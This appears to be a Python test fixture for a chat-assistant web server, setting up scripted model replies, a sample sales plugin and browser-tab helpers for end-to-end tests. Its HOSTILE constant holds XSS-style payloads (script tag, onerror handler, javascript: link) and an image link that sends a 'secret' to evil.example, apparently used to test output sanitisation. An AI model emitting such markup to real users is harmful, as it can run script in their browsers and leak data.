"""A server with something of everything behind it, and a browser tab on its page."""

import asyncio
import json
import shutil
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

from tests.kit.server import Server
from tests.peers.browser import Chromium, Tab

HERE = Path(__file__).parent
CONFIG = """
[models.default]
spec = "scripted:stall.json"

[models.other]
spec = "scripted:other.json"

[assistants.default]
title = "Shop"
tools = ["stall:TOOLS"]
models = ["default", "other"]

[[plugins]]
path = "plugins"
appears = true
allow = ["127.0.0.1"]

{more}
"""
CALLS = {"orders": {}, "cancel": {"id": "a-1"}, "broken": {}, "deliver": {}, "walk": {}}
PROSE = """\
## Title

Some **bold** and `code`.

```python
def f():
    return 'x'  # why
```

- one
- two

| a | b |
|---|---|
| 1 | 2 |
"""
HOSTILE = (
    "<script>window.hacked=1</script> <img src=x onerror='window.hacked=2'> "
    "[click](javascript:window.hacked=3) ![pixel](http://evil.example/p.png?secret=1) "
    "<style>body{display:none}</style> [q](https://evil.example/q)"
)
SALES = """\
name: sales
description: Draws the sales.
steps:
  - name: start
    call_type: sales
    next: chart
  - name: chart
    call_type: render
    params: {kind: bar, x: month, y: sales, title: Sales}
    next: end
  - name: end
    call_type: none
    params: {say: Drawn.}
"""
LIB = """\
from rightseat import tool

@tool
def sales() -> list[dict[str, object]]:
    \"\"\"The sales.\"\"\"
    return [{"month": "Jan", "sales": 1}, {"month": "Feb", "sales": 2}]
"""


def script() -> dict[str, Any]:
    turns: list[dict[str, Any]] = []
    for name, arguments in CALLS.items():
        turns.append({"when": {"user": name, "tool": name}, "say": "Done: {result}"})
        turns.append({"when": {"user": name}, "calls": [{"name": name, "arguments": arguments}]})
    return {
        "turns": [
            *turns,
            {"when": {"user": "prose"}, "say": PROSE},
            {"when": {"user": "hostile"}, "say": HOSTILE},
            {"when": {"user": "slow"}, "say": "word " * 400, "pace_ms": 25},
            {"when": {"user": "fast"}, "say": "token " * 10_000},
            {"when": {"user": "huge"}, "say": ["x" * 2_000_000]},
            {"when": {"user": "think"}, "reason": "Let me see.", "say": "Thought."},
            {"when": {"user": "fail"}, "finish": "raise:upstream_busy"},
            {"when": {}, "say": "You said: {user}"},
        ]
    }


def furnish(folder: Path) -> None:
    shutil.copy(HERE / "stall.py", folder)
    (folder / "stall.json").write_text(json.dumps(script()), encoding="utf-8")
    (folder / "other.json").write_text('{"turns": [{"say": "The other model."}]}', encoding="utf-8")
    plugin = folder / "plugins" / "report"
    for name in ("flows", "lib"):
        (plugin / name).mkdir(parents=True)
    (plugin / "plugin.json").write_text(
        json.dumps({"id": "report", "name": "Report", "description": "Reports.", "predefined_question": ""})
    )
    (plugin / "flows" / "sales.yaml").write_text(SALES)
    (plugin / "flows" / "wrong.yaml").write_text("name: wrong\nsteps: []\n")
    (plugin / "lib" / "sales.py").write_text(LIB)


def served(more: str = "", **options: Any) -> Server:
    server = Server(config=CONFIG.replace("{more}", more), **options)
    furnish(server.folder)
    return server


@asynccontextmanager
async def opened(chromium: Chromium, url: str) -> AsyncIterator[Tab]:
    async with chromium.tab() as tab:
        await tab.open(url)
        await tab.see("#say")
        yield tab


async def say(tab: Tab, text: str) -> None:
    await tab.write("#say", text)
    await tab.page.keyboard.press("Enter")


async def until(tab: Tab, expression: str, seconds: float = 20) -> None:
    """Until it holds in the page. Playwright's own waiting needs what the page's policy forbids."""
    limit = asyncio.get_running_loop().time() + seconds
    while not await tab.page.evaluate(expression):
        assert asyncio.get_running_loop().time() < limit, f"not within {seconds} s: {expression}"
        await tab.page.wait_for_timeout(50)
